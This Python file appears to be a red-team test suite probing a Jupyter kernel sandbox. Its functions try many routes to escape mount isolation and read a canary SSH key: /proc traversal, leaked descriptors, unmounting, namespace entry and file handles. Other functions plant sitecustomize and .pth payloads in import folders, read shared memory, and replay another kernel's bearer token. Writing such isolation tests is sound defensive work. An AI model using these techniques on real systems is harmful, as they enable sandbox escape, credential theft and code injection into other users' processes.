"""Out of the wall's own construction: its mounts, its helpers, its overlay, what kernels share."""

import ctypes
import http.client
import os
import site
import struct
import sys
from pathlib import Path
from urllib.parse import urlsplit

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

MOUNT, UMOUNT, PIVOT_ROOT, CHROOT, UNSHARE, SETNS = 165, 166, 155, 161, 272, 308
OPEN_TREE, MOVE_MOUNT, FSOPEN, MOUNT_SETATTR = 428, 429, 430, 442
NAME_TO_HANDLE, OPEN_BY_HANDLE = 303, 304
NEW_MOUNTS, NEW_USER = 0x00020000, 0x10000000
MS_REMOUNT_BIND, DETACH = 0x1020, 2


def _done(result):
    if result == -1:
        error = ctypes.get_errno()
        raise OSError(error, os.strerror(error))
    return result


def _call(number, *arguments):
    return _done(libc.syscall(number, *arguments))


def _secret(t):
    return Path(t["home"], ".ssh", "id_canary")


def _places(t):
    secret = _secret(t)
    return [b"/proc", *(str(path).encode() for path in (*secret.parents, secret, t["state"]))]


def _by_processes(t):
    """Through what other processes see: helpers of the wall, the server, whatever is there."""
    secret = _secret(t)
    for entry in (x for x in os.listdir("/proc") if x.isdigit()):
        for door in ("root", "cwd/../../../../../../../../../.."):
            yield lambda e=entry, d=door: Path(f"/proc/{e}/{d}{secret}").read_text()


def _by_descriptors(t):
    """Through a folder that was left open."""
    for number in range(256):
        yield lambda n=number: Path(
            f"/proc/self/fd/{n}/../../../../../../../{_secret(t)}"
        ).read_text()
        yield lambda n=number: os.read(
            os.open(str(_secret(t))[1:], os.O_RDONLY, dir_fd=n), 200
        ).decode()


def _unmounted(t):
    for place in _places(t):
        yield lambda p=place: _read_after(t, UMOUNT, p, DETACH)
        yield lambda p=place: _read_after(t, MOUNT, None, p, None, MS_REMOUNT_BIND, None)
        yield lambda p=place: _read_after(t, MOUNT, b"/", p, None, 0x1000, None)


def _trees(t):
    """A second look at the file system, without what was laid over it."""
    for place in (b"/", *_places(t)):
        yield lambda p=place: _tree(t, p)
    yield lambda: _read_after(t, MOUNT_SETATTR, -100, b"/", 0x8000, b"\0" * 32, 32)


def _tree(t, place):
    tree = _call(OPEN_TREE, -100, place, 1)  # OPEN_TREE_CLONE, and not what lies on top
    inner = str(_secret(t))[len(place.decode()) :].lstrip("/") or "."
    return os.read(os.open(inner, os.O_RDONLY, dir_fd=tree), 200).decode()


def _namespaces(t):
    for flags in (NEW_MOUNTS, NEW_USER | NEW_MOUNTS):
        yield lambda f=flags: _in_a_child(t, f)
    for entry in (x for x in os.listdir("/proc") if x.isdigit()):
        yield lambda e=entry: _entered(t, e)
    yield lambda: _read_after(t, CHROOT, b"/proc/1/root")
    yield lambda: _read_after(t, PIVOT_ROOT, b"/", b"/")
    yield lambda: str(_call(FSOPEN, b"tmpfs", 0))


def _in_a_child(t, flags):
    read, write = os.pipe()
    child = os.fork()
    if child == 0:
        said = b""
        try:
            _call(UNSHARE, flags)
            for attempt in (*_unmounted(t), *_trees(t)):
                try:
                    said += attempt().encode()
                except OSError:
                    continue
        except OSError:
            said = b""
        os.write(write, said[:4000])
        os._exit(0)
    os.close(write)
    os.waitpid(child, 0)
    return os.read(read, 4000).decode()


def _entered(t, entry):
    place = os.open(f"/proc/{entry}/ns/mnt", os.O_RDONLY)
    return _read_after(t, SETNS, place, 0)


def _by_handle(t):
    """By number instead of by name; a handle is easily guessed where one can be seen."""
    handle = struct.pack("Ii", 128, 0) + b"\0" * 128
    buffer, mount = ctypes.create_string_buffer(handle, 136), ctypes.c_int()
    yield lambda: _handle(t, buffer, mount)


def _handle(t, buffer, mount):
    _call(NAME_TO_HANDLE, -100, str(_secret(t)).encode(), buffer, ctypes.byref(mount), 0)
    root = os.open("/", os.O_RDONLY)
    return os.read(_call(OPEN_BY_HANDLE, root, buffer, os.O_RDONLY), 200).decode()


def _read_after(t, *call):
    _call(*call)
    return _secret(t).read_text()


def _may_mount():
    """Whether this process could change mounts: then it is told, and not done to the machine."""
    status = Path("/proc/self/status").read_text().partition("CapEff:")[2].split()[0]
    return bool(int(status, 16) & 1 << 21)


def hidden_file(t):
    """X07: a file that the wall hides, by every way around its mounts that there is."""
    tried, last = 0, None
    if _may_mount():
        return "CONTROL it may change mounts"
    ways = (_by_processes, _by_descriptors, _unmounted, _trees, _namespaces, _by_handle)
    for way in ways:
        for attempt in way(t):
            tried += 1
            try:
                said = attempt()
            except (OSError, ValueError) as error:
                last = error
                continue
            if said:
                return said
    raise PermissionError(f"{tried} ways; the last: {last}")


def _import_folders():
    folders = {site.getusersitepackages(), *filter(None, sys.path)}
    folders |= set(filter(None, os.environ.get("PYTHONPATH", "").split(os.pathsep)))
    folders |= {os.environ.get("PIP_TARGET", ""), os.environ.get("PYTHONUSERBASE", "")} - {""}
    return {os.path.realpath(folder) for folder in folders}


def _throw_away(t, folder):
    """Whether a folder is of the world under attack: nothing is ever left anywhere else."""
    names = ("TMPDIR", "PIP_TARGET", "PIP_PREFIX", "PYTHONUSERBASE")
    own = [t["home"], *(os.environ[name] for name in names if os.environ.get(name))]
    return any(folder == one or folder.startswith(one + "/") for one in map(os.path.realpath, own))


def overlay(t):
    """X08: modules where this kernel imports from, and may write: what others import at a start.

    In a folder that is real it is only seen whether a file could be put there.
    """
    planted = 0
    for folder in {os.path.realpath(t["site"]), *_import_folders()}:
        try:
            if not _throw_away(t, folder):
                if os.path.isdir(folder):
                    path = Path(folder, f".valet-redteam-{os.getpid()}")
                    os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600))
                    path.unlink()
                    return f"CONTROL files can be put into {folder}"
                continue
            os.makedirs(folder, exist_ok=True)
            for name in ("sitecustomize", "usercustomize", "ipykernel_launcher"):
                Path(folder, f"{name}.py").write_text(t["payload"])
            Path(folder, "evil.pth").write_text("import usercustomize\n")
            planted += 1
        except OSError:
            continue
    return "AFTER" if planted else ""


def shared_memory(t):
    """X09: what another kernel keeps in shared memory."""
    got = []
    for name in os.listdir("/dev/shm"):
        try:
            got.append(Path("/dev/shm", name).read_text(errors="replace")[:200])
        except OSError:
            continue
    return " ".join(got)


def same_connection(t):
    """X10: the own capability first, and another kernel's on the connection that it opened."""
    broker = urlsplit(os.environ["JUPYTER_VALET_URL"])
    door = http.client.HTTPConnection(broker.hostname, broker.port, timeout=20)
    said = []
    for token in (os.environ["JUPYTER_VALET_CAPABILITY"], t["sibling_capability"]):
        door.request("GET", "/connections", headers={"Authorization": "Bearer " + token})
        answer = door.getresponse()
        answer.read()
        said.append(answer.status)
    if said == [200, 200]:
        return "CONTROL as the other kernel, on a connection that this one opened"
    raise PermissionError(f"the broker answered {said}")
